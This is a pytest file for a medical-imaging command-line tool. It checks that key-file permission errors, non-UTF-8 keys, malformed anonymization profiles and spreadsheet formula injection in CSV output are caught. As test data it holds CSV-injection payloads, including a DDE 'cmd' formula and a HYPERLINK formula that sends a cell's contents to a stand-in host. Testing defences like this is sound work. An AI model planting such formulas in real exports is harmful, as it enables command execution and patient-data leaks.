"""Inputs that could leak or misuse patient data (#26 defects 4-6), through the CLI in a subprocess: a key file
others can read, a key file that is not text, CSV cells a spreadsheet would run as formulas, a malformed profile."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pydicom
import pytest
from pydicom.data import get_testdata_file

from diana_core.csvcells import neutralize, restore

FORMULAS = ["=cmd|' /C calc'!A0", "+1+cmd|x", "@SUM(1+1)", "-2+3+cmd|x", "\tTAB", "\rCR"]
LIVE = tuple("=+-@\t\r")


def diana(*args: str, cwd: Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    full = {k: v for k, v in os.environ.items() if k not in ("DIANA_SERVICES", "DIANA_LOG_FORMAT")}
    full["XDG_CONFIG_HOME"] = str(cwd / "config")
    full.update(env or {})
    return subprocess.run([sys.executable, "-m", "diana_core", *args], capture_output=True, text=True, cwd=cwd,
                          env=full, timeout=120)


def one_line_error(out: subprocess.CompletedProcess) -> str:
    assert out.returncode != 0 and "Traceback" not in out.stderr, out.stderr
    lines = [x for x in out.stderr.splitlines() if x.strip()]
    assert len(lines) == 1, out.stderr
    return lines[0]


def live_cells(text: str) -> list[str]:
    """Cells a spreadsheet would evaluate (a plain number such as -1024.0 stays a number: no formula)."""
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row if c.startswith(LIVE)
            and not _number(c)]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def key_file(tmp_path: Path, content: bytes, mode: int) -> Path:
    path = tmp_path / "config" / "diana" / "pseudonym.key"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    os.chmod(path, mode)
    return path


@pytest.mark.parametrize("mode", [0o644, 0o640, 0o604, 0o620])
def test_a_key_file_others_can_read_or_write_is_refused_with_the_chmod_fix(tmp_path, mode):
    path = key_file(tmp_path, b"a-secret-key-of-enough-length-1234567890\n", mode)
    env = {"DIANA_PSEUDONYM_KEY": ""}
    line = one_line_error(diana("key", "show", cwd=tmp_path, env=env))
    assert f"chmod 600 {path}" in line and f"{mode:04o}" in line and "a-secret-key" not in line
    line = one_line_error(diana("guid", "DOE^JANE", "--dob", "2000-01-01", cwd=tmp_path, env=env))
    assert f"chmod 600 {path}" in line
    os.chmod(path, 0o600)
    assert diana("key", "show", cwd=tmp_path, env=env).returncode == 0


def test_a_key_file_that_is_not_utf8_is_one_line(tmp_path):
    path = key_file(tmp_path, b"\xff\xfe\x00key\x80\n", 0o600)
    line = one_line_error(diana("key", "show", cwd=tmp_path, env={"DIANA_PSEUDONYM_KEY": ""}))
    assert str(path) in line and "not UTF-8" in line


def test_the_cell_rule_round_trips_and_defuses_every_live_start():
    for value in [*FORMULAS, "'=x", "''+y", "'abc", "plain", "", "a=b"]:
        written = neutralize(value)
        assert not written.startswith(LIVE) and restore(written) == value
    assert neutralize("=1") == "'=1" and neutralize("plain") == "plain" and neutralize(5) == 5


def test_failures_csv_and_jobs_report_csv_hold_no_live_formula(tmp_path):
    (tmp_path / "pacs").mkdir()
    with (tmp_path / "wl.csv").open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([["AccessionNumber"], *([f] for f in FORMULAS)])
    out = diana("collect", "wl.csv", "./pacs", "./research", "--job-dir", "job", cwd=tmp_path)
    assert out.returncode == 1, out.stderr
    failures = (tmp_path / "job" / "failures.csv").read_bytes().decode("utf-8")
    rows = list(csv.reader(io.StringIO(failures, newline="")))
    assert len(rows) == 1 + len(FORMULAS) and live_cells(failures) == []
    assert sorted(restore(r[0]) for r in rows[1:]) == sorted(FORMULAS)  # defused, not dropped
    report = diana("--show-ids", "jobs", "report", "job", "--format", "csv", "-o", "r.csv", cwd=tmp_path)
    assert report.returncode == 0, report.stderr
    text = (tmp_path / "r.csv").read_bytes().decode("utf-8")
    studies = [r["study"] for r in csv.DictReader(io.StringIO(text, newline=""))]
    assert len(studies) == len(FORMULAS) and live_cells(text) == []
    assert sorted(restore(s) for s in studies) == sorted(FORMULAS)
    # a worklist Diana wrote reads back as the original values
    rerun = diana("--show-ids", "--json", "collect", "job/failures.csv", "./pacs", "./research", "--job-dir", "job2",
                  cwd=tmp_path)
    assert set(FORMULAS[:4]) <= set(json.loads(rerun.stdout)["failures"]), rerun.stdout


def test_find_csv_defuses_a_formula_patient_name(tmp_path):
    ds = pydicom.dcmread(get_testdata_file("CT_small.dcm", download=False))
    ds.PatientName = '=HYPERLINK("http://x.invalid/?"&A1,"open")'
    ds.PatientID = "@SUM(1+1)"
    (tmp_path / "pacs").mkdir()
    ds.save_as(tmp_path / "pacs" / "a.dcm")
    out = diana("find", "./pacs", "PatientID=*", "-l", "instances", "--format", "csv", cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    row = next(csv.DictReader(io.StringIO(out.stdout, newline="")))
    assert row["PatientName"] == "'" + str(ds.PatientName) and row["PatientID"] == "'@SUM(1+1)"
    assert live_cells(out.stdout) == []


@pytest.mark.parametrize(("yaml_text", "named"), [
    ("options: 5\n", "options must be a list"),
    ("keep: [1, 2, {a: b}]\n", "keep: 1 is neither a DICOM keyword"),
    ("remove: PatientAge\n", "remove must be a list"),
    ("replace: {PatientAge: [1]}\n", "replace: PatientAge must be a text or number"),
    ("replace: [PatientAge]\n", "replace must map keywords to values"),
    ("keeps: [PatientAge]\n", "unknown key(s) keeps; known: keep, options, remove, replace"),
    ("- just\n- a list\n", "expected a mapping"),
])
def test_a_malformed_profile_is_one_line_at_start(tmp_path, yaml_text, named):
    (tmp_path / "pacs").mkdir()
    (tmp_path / "wl.csv").write_text("AccessionNumber\nA1\n")
    (tmp_path / "p.yml").write_text(yaml_text)
    out = diana("collect", "wl.csv", "./pacs", "./research", "--job-dir", "job", "--anonymize", "--profile", "p.yml",
                cwd=tmp_path)
    line = one_line_error(out)
    assert "p.yml" in line and named in line, line
    assert not (tmp_path / "job" / "journal.sqlite").exists()  # refused before any study was tried
